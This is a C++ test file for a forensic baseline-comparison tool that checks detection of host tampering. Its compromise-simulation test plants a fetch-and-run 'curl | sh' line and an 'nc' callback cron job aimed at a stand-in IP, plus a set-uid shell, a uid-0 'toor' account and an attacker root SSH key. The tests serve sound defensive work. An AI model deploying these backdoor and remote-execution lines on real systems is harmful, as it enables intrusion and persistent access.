// A reference host tree is recorded, copied, and the copy compromised the
// way intruders do: each change must be found and named, and a clean copy
// must be called clean.
#include <doctest/doctest.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <algorithm>

#include "baseline_lab.h"
#include "forensics/baseline/baseline_compare_output.h"
#include "forensics/baseline/baseline_comparison.h"
#include "forensics/baseline/baseline_recorder.h"
#include "forensics/baseline/baseline_verdict.h"
#include "forensics/baseline/authorized_keys.h"
#include "forensics/baseline/listening_sockets.h"
#include "forensics/baseline/local_accounts.h"
#include "forensics/baseline/systemd_units.h"
#include "forensics/baseline/signed_baseline_file.h"
#include "../../support/skip.h"

using namespace responder;
using namespace responder::baseline;
using namespace responder::baseline::testing;

namespace {

std::vector<std::string> test_paths() {
  return {"/etc", "/usr/bin", "/usr/lib", "/bin", "/root/.ssh", "/home/*/.ssh", "/var/spool/cron"};
}

// Records `root` (sockets from `net_dir`), writes and reads the signed
// baseline back, as a real comparison would.
BaselineContents recorded(const std::filesystem::path& root, const std::filesystem::path& net_dir, const TempDir& work) {
  RecordOptions options;
  options.root = root;
  options.paths = test_paths();
  options.inventory.net_dir = net_dir;
  options.workers = 2;
  auto recording = record_baseline(options);
  REQUIRE_MESSAGE(recording.ok(), (recording.ok() ? "" : recording.error().message));
  auto key = make_key(work.path());
  auto signing = evidence::Ed25519Key::load(key.private_pem);
  REQUIRE(signing.ok());
  auto file = work / "reference.jsonl.gz";
  auto written = write_baseline(*recording, file, *signing);
  REQUIRE_MESSAGE(written.ok(), (written.ok() ? "" : written.error().message));
  auto trusted = trusted_baseline_key(key.public_pem.string(), "", nullptr);
  REQUIRE(trusted.ok());
  auto contents = read_baseline(file, *trusted);
  REQUIRE_MESSAGE(contents.ok(), (contents.ok() ? "" : contents.error().message));
  return std::move(*contents);
}

struct Compared {
  BaselineComparison comparison;
  Verdict verdict;
  json::object output;
};

Compared compare(const BaselineContents* baseline, const std::filesystem::path& root, const std::filesystem::path& net_dir) {
  CompareOptions options;
  options.root = root;
  options.inventory.net_dir = net_dir;
  options.workers = 2;
  auto c = compare_host(baseline, options);
  REQUIRE_MESSAGE(c.ok(), (c.ok() ? "" : c.error().message));
  Compared out{std::move(*c), {}, {}};
  out.verdict = decide_verdict(out.comparison);
  out.output = comparison_output(out.comparison, out.verdict);
  return out;
}

const VerdictRule* rule(const Verdict& v, const std::string& name) {
  for (auto& r : v.rules)
    if (r.rule == name) return &r;
  return nullptr;
}

bool names(const Verdict& v, const std::string& rule_name, const std::string& fragment) {
  auto* r = rule(v, rule_name);
  if (!r) return false;
  return std::any_of(r->items.begin(), r->items.end(), [&](const std::string& i) { return i.find(fragment) != std::string::npos; });
}

void copy_tree(const std::filesystem::path& from, const std::filesystem::path& to) {
  auto r = responder::testing::run_process({"cp", "-a", from.string() + "/.", to.string()});
  REQUIRE(r.exit_code == 0);
}

}  // namespace

TEST_CASE("baseline.compare: a clean copy of the reference host is clean") {
  TempDir work, reference, copy;
  build_reference_tree(reference.path());
  write_package_database(reference.path());
  auto baseline = recorded(reference.path(), "/proc/self/net", work);
  CHECK(baseline.header.host == "reference");
  CHECK(baseline.find_file("/usr/bin/tool") != nullptr);
  CHECK(baseline.find_file("/bin") != nullptr);
  CHECK(baseline.find_file("/bin")->type == FileEntry::Type::symlink);
  // Packaged files carry dpkg's MD5 (listed as /bin/tool: /bin is usr/bin here), others none.
  CHECK(baseline.find_file("/usr/bin/tool")->md5.size() == 32);
  CHECK(baseline.find_file("/usr/bin/local-script")->md5.empty());
  CHECK(baseline.inventory["account"].count("alice") == 1);
  CHECK(baseline.inventory["account"]["root"].at("password") == "set");
  // The shadow hash never leaves the host.
  for (auto& [kind, records] : baseline.inventory)
    for (auto& [key, fields] : records) CHECK(to_json_text(fields).find("$y$") == std::string::npos);
  CHECK(baseline.inventory["authorized_key"].count("root SHA256:eaulKRC+JIoCvPhhzejShP81SAuOGhywUGystmemX6Y") == 1);

  copy_tree(reference.path(), copy.path());
  auto result = compare(&baseline, copy.path(), "/proc/self/net");
  INFO(to_json_text(result.output));
  CHECK(result.verdict.verdict == "clean");
  CHECK(result.verdict.rules.empty());
  CHECK(result.comparison.packages_checked);
  CHECK(result.comparison.packaged_files == 3);  // tool, libtool.so.1, tool.conf; not the obsolete or removed package's
  CHECK(result.output.at("tampered").as_array().empty());
}

TEST_CASE("baseline.compare: a compromised copy - modified binary, set-uid file, account, key, cron job, listener - is found and named") {
  RESPONDER_SKIP_WHEN(::geteuid() != 0 ? "needs root for a network namespace (unshare CLONE_NEWNET)" : "");
  NamespaceListener netns;
  RESPONDER_SKIP_WHEN(!netns.ready() ? "cannot make a network namespace here" : "");
  TempDir work, reference, copy;
  build_reference_tree(reference.path());
  write_package_database(reference.path());
  auto baseline = recorded(reference.path(), netns.net_dir(), work);
  CHECK(baseline.inventory["socket"].empty());

  copy_tree(reference.path(), copy.path());
  auto root = copy.path();
  put(root, "/usr/bin/tool", "#!/bin/sh\necho a packaged tool\ncurl -s http://198.51.100.9/x | sh\n", 0755);  // trojaned
  put(root, "/usr/bin/local-script", "#!/bin/sh\necho an administrator's script, changed\n", 0755);
  put(root, "/usr/bin/.sshd-helper", "#!/bin/sh\nexec /bin/sh -p\n", 04755);                                   // set-uid shell
  append(root, "/etc/passwd", "toor:x:0:0::/root:/bin/bash\n");                                                   // uid 0
  append(root, "/etc/shadow", "toor:$6$salt$hash:19000:0:99999:7:::\n");
  append(root, "/root/.ssh/authorized_keys", std::string(kMalloryKey) + "\n");                                   // root key
  put(root, "/var/spool/cron/crontabs/daemon", "*/5 * * * * /usr/bin/.sshd-helper -c 'nc 198.51.100.9 4444'\n", 0600);
  put(root, "/etc/tool.conf", "threshold = 50\n");                                                               // conffile
  REQUIRE(netns.listen());

  auto result = compare(&baseline, root, netns.net_dir());
  INFO(to_json_text(result.output));
  auto& v = result.verdict;
  CHECK(v.verdict == "rebuild");
  CHECK(names(v, "packaged-binary-changed", "/usr/bin/tool (tool: md5)"));
  CHECK(names(v, "binary-changed", "/usr/bin/local-script"));
  CHECK_FALSE(names(v, "binary-changed", "/usr/bin/tool"));  // said once, as the packaged binary it is... and:
  CHECK(names(v, "file-changed", "/usr/bin/tool"));
  CHECK(names(v, "new-setid-file", "/usr/bin/.sshd-helper (mode 4755"));
  CHECK(names(v, "new-root-account", "account toor with uid 0"));
  CHECK(names(v, "new-root-key", "root SHA256:"));
  CHECK(names(v, "cron-added", "/var/spool/cron/crontabs/daemon: */5 * * * *"));
  CHECK(names(v, "socket-added", "tcp 0.0.0.0:4444"));
  CHECK(names(v, "conffile-changed", "/etc/tool.conf (tool: md5)"));
  CHECK(names(v, "file-added", "/var/spool/cron/crontabs/daemon"));
  CHECK(names(v, "account-added", "toor"));
  CHECK(names(v, "authorized_key-added", "root SHA256:"));
  // What a later evidence.collect takes: the tampered files.
  auto& tampered = result.output.at("tampered").as_array();
  // (where they are on this host: under the compared root)
  for (const char* p : {"/usr/bin/tool", "/usr/bin/.sshd-helper", "/usr/bin/local-script", "/etc/tool.conf"})
    CHECK(std::find(tampered.begin(), tampered.end(), json::value(root.string() + p)) != tampered.end());
  // The changed entry says what differs.
  bool tool_hash = false;
  for (auto& c : result.output.at("changed").as_array())
    if (c.as_object().at("path") == "/usr/bin/tool")
      tool_hash = c.as_object().at("differs").as_array().size() >= 1 && c.as_object().at("differs").as_array()[0] == "sha256";
  CHECK(tool_hash);
  auto& new_sockets = result.output.at("sockets").as_object().at("added").as_array();
  REQUIRE(new_sockets.size() == 1);
  CHECK(new_sockets[0].as_object().at("process") == "test_forensics");  // the listener is a fork of the test
}

TEST_CASE("baseline.compare: mode, owner and capability changes, removed files and a new sudo member are each told apart") {
  TempDir work, reference, copy;
  build_reference_tree(reference.path());
  auto baseline = recorded(reference.path(), "/proc/self/net", work);
  copy_tree(reference.path(), copy.path());
  auto root = copy.path().string();
  ::chmod((root + "/etc/tool.conf").c_str(), 0666);
  REQUIRE(::chown((root + "/usr/lib/libtool.so.1").c_str(), 1000, 1000) == 0);
  std::filesystem::remove(root + "/usr/bin/local-script");
  put(copy.path(), "/etc/group", "root:x:0:\nsudo:x:27:alice,daemon\nalice:x:1000:\n");
  put(copy.path(), "/usr/bin/odd-\xff-name", "#!/bin/sh\n", 04755);  // a name that is not UTF-8
  bool caps = ::setxattr((root + "/usr/bin/tool").c_str(), "security.capability",
                         "\x01\x00\x00\x02\x00\x20\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00", 20, 0) == 0;
  auto result = compare(&baseline, copy.path(), "/proc/self/net");
  INFO(to_json_text(result.output));
  CHECK(result.verdict.verdict == "rebuild");
  CHECK(names(result.verdict, "new-root-account", "daemon added to group sudo"));
  CHECK(names(result.verdict, "file-changed", "/etc/tool.conf (mode)"));
  CHECK(names(result.verdict, "file-changed", "/usr/lib/libtool.so.1 (owner, group)"));
  CHECK(names(result.verdict, "file-removed", "/usr/bin/local-script"));
  CHECK(result.comparison.notes.size() >= 1);  // no dpkg database in this tree: said
  if (caps) CHECK(names(result.verdict, "new-file-capabilities", "/usr/bin/tool"));
  // Whatever a file is called, the output is JSON that reads back, and the
  // tampered list holds a glob evidence.collect can take.
  CHECK_NOTHROW(parse_json(to_json_text(result.output)));
  auto& tampered = result.output.at("tampered").as_array();
  CHECK(std::find(tampered.begin(), tampered.end(), json::value(copy.path().string() + "/usr/bin/odd-?-name")) != tampered.end());
  bool named = false;
  for (auto& r : result.output.at("rules").as_array())
    for (auto& item : r.as_object().at("items").as_array())
      named = named || std::string_view(item.as_string()).find("/usr/bin/odd-\\xff-name") != std::string_view::npos;
  CHECK(named);
}

TEST_CASE("baseline.compare: without a baseline, the package database alone finds a changed packaged file") {
  TempDir reference;
  build_reference_tree(reference.path());
  write_package_database(reference.path());
  auto clean = compare(nullptr, reference.path(), "/proc/self/net");
  INFO(to_json_text(clean.output));
  CHECK(clean.verdict.verdict == "clean");
  put(reference.path(), "/usr/lib/libtool.so.1", "ELF trojaned library\n");
  put(reference.path(), "/usr/bin/su2", "#!/bin/sh\n", 04755);
  std::filesystem::remove(reference.path().string() + "/etc/tool.conf");
  auto found = compare(nullptr, reference.path(), "/proc/self/net");
  INFO(to_json_text(found.output));
  CHECK(found.verdict.verdict == "rebuild");
  CHECK(names(found.verdict, "packaged-binary-changed", "/usr/lib/libtool.so.1"));
  CHECK(names(found.verdict, "packaged-file-missing", "/etc/tool.conf"));
  CHECK(names(found.verdict, "new-setid-file", "/usr/bin/su2"));
}

TEST_CASE("baseline.compare: a diverted file is checked where dpkg moved it, not flagged at its old place") {
  TempDir reference;
  build_reference_tree(reference.path());
  write_package_database(reference.path());
  auto root = reference.path();
  // Package "tool" owns /usr/bin/tool; an administrator diverted it to /usr/bin/tool.distrib
  // and put a wrapper of their own in its place.
  std::filesystem::rename(root.string() + "/usr/bin/tool", root.string() + "/usr/bin/tool.distrib");
  put(root, "/usr/bin/tool", "#!/bin/sh\nexec /usr/bin/tool.distrib --safe \"$@\"\n", 0755);
  put(root, "/var/lib/dpkg/diversions", "/bin/tool\n/bin/tool.distrib\n:\n");
  auto result = compare(nullptr, root, "/proc/self/net");
  INFO(to_json_text(result.output));
  CHECK(result.verdict.verdict == "clean");
}

TEST_CASE("baseline.compare: socket tables, authorized_keys lines and unit listings are read as the kernel and tools print them") {
  std::string tcp =
      "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
      "   0: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 1 0 100 0 0 10 0\n"
      "   1: 0100007F:9C40 0100007F:1F90 01 00000000:00000000 00:00000000 00000000     0        0 2 1 0 100 0 0 10 0\n";
  auto sockets = parse_socket_table("tcp", tcp);
  REQUIRE(sockets.size() == 1);
  CHECK(sockets[0].key == "tcp 127.0.0.1:8080");
  std::string tcp6 =
      "  sl  local_address                         remote_address                        st\n"
      "   0: 00000000000000000000000000000000:0016 00000000000000000000000000000000:0000 0A\n"
      "   1: 00000000000000000000000001000000:0035 00000000000000000000000000000000:0000 0A\n";
  auto six = parse_socket_table("tcp6", tcp6);
  REQUIRE(six.size() == 2);
  CHECK(six[0].key == "tcp6 [::]:22");
  CHECK(six[1].key == "tcp6 [::1]:53");

  AuthorizedKeyLine key;
  REQUIRE(parse_authorized_key_line(std::string("from=\"10.0.0.1,10.0.0.2\",no-pty ") + kAliceKey, key));
  CHECK(key.fingerprint == "SHA256:eaulKRC+JIoCvPhhzejShP81SAuOGhywUGystmemX6Y");  // as ssh-keygen -lf prints it
  CHECK(key.options == "from=\"10.0.0.1,10.0.0.2\",no-pty");
  CHECK(key.comment == "alice@laptop");
  CHECK_FALSE(parse_authorized_key_line("# ssh-ed25519 AAAA", key));

  auto units = units_from_listings("ssh.service enabled enabled\ncron.service enabled enabled\n",
                                   "ssh.service loaded active running OpenBSD Secure Shell server\n");
  REQUIRE(units.size() == 2);
  CHECK(units[1].key == "ssh.service");
  CHECK(units[1].fields.at("running") == true);
  CHECK(units[0].fields.at("running") == false);
  CHECK(password_state("") == "empty");
  CHECK(password_state("!$6$x") == "locked");
  CHECK(password_state("$6$x") == "set");
}
